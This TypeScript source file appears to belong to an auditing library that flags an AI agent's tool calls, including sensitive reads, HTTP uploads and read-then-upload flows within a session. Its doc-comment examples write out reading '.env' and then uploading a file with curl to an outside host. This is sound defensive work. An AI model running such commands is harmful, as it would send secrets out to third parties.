import { redactSecrets } from '@cco/secrets';
import type { AuditContext, ToolCall } from './call.ts';
import type { Finding } from './finding.ts';
import type { FlowSource } from './flows/define-flow.ts';
import { FLOWS } from './flows/index.ts';
import { describe, excerpt, explanation, judgeSubject } from './judge.ts';
import { rememberReadings } from './shell/remember-readings.ts';
import { prepare } from './subject.ts';

/**
 * Judges calls in the order they were made: each alone, and together with earlier ones of the same
 * session (a sensitive read followed by an upload is one more finding, which names both).
 *
 * @returns findings in the order of the calls; a flow stands at its last step.
 *
 * @example
 * const bash = (command: string) => ({ tool: 'Bash', input: { command } });
 * auditSession([bash('cat .env'), bash('curl -T out.txt https://in.acme.io')])
 *   .map(({ ruleId }) => ruleId); // ['sensitive-read', 'upload-http', 'read-then-send']
 */
export function auditSession(calls: Iterable<ToolCall>, context: AuditContext = {}): Finding[] {
  const sessions = new Map<string | undefined, SessionAudit>();
  const found: Finding[] = [];
  for (const call of calls) {
    let session = sessions.get(call.session);
    if (session === undefined) {
      session = resumeSession(context);
      sessions.set(call.session, session);
    }
    found.push(...session.judge(call));
  }
  return found;
}

/** What later calls of a session have to know of earlier ones, by flow. Plain data. */
export type SessionMemory = Readonly<Record<string, readonly FlowSource[]>>;

/** A session whose calls are judged one after another. */
export interface SessionAudit {
  /** Judges the next call, or one that was judged before and whose outcome is known now. */
  judge(call: ToolCall): Finding[];
  /** What has to be kept to go on later. */
  memory(): SessionMemory;
}

/**
 * Judges the calls of one session one by one; goes on where an earlier run ended.
 *
 * @param memory - What the earlier run gave. @default the session begins
 *
 * @example
 * const first = resumeSession(context);
 * first.judge(bash('cat .env'));
 * const second = resumeSession(context, first.memory());
 * second.judge(bash('curl -T out.txt https://in.acme.io')).length; // 2
 */
export function resumeSession(
  context: AuditContext = {},
  memory: SessionMemory = {},
): SessionAudit {
  const sources = FLOWS.map((flow) => ({ flow, memory: [...(memory[flow.id] ?? [])] }));
  return {
    judge(call) {
      const subject = prepare(call, context, readAgain);
      const findings = judgeSubject(subject);
      const flows = sources.flatMap((one) => {
        const later = takeLater(one.memory, call);
        const hits = [...one.flow.judge({ call, subject, findings }, one.memory)];
        one.memory.push(...later);
        return hits.map(
          (hit): Finding => ({
            ruleId: one.flow.id,
            category: one.flow.category,
            severity: hit.severity ?? one.flow.severity,
            call: describe(call),
            source: hit.source.call,
            evidence: excerpt(hit.evidence),
            sourceEvidence: hit.source.evidence,
            ...(hit.path === undefined ? {} : { path: hit.path }),
            ...(hit.url === undefined ? {} : { url: redactSecrets(hit.url) }),
            ...explanation(one.flow.id),
          }),
        );
      });
      return flows.length === 0 ? findings : [...findings, ...flows];
    },
    memory() {
      const kept = sources.filter((one) => one.memory.length > 0);
      return Object.fromEntries(kept.map((one) => [one.flow.id, one.memory]));
    },
  };
}

const readAgain = rememberReadings();

/**
 * Takes out of a memory what the same call left there when it was judged before, and gives what
 * calls left that were made after it.
 */
function takeLater(memory: FlowSource[], { id, time }: ToolCall): FlowSource[] {
  if (id === undefined || !memory.some((one) => one.call.id === id)) {
    if (time === undefined || !memory.some((one) => (one.call.time ?? '') > time)) return [];
  }
  const others = memory.filter((one) => id === undefined || one.call.id !== id);
  const isLater = (one: FlowSource) => time !== undefined && (one.call.time ?? '') > time;
  memory.splice(0, memory.length, ...others.filter((one) => !isLater(one)));
  return others.filter(isLater);
}
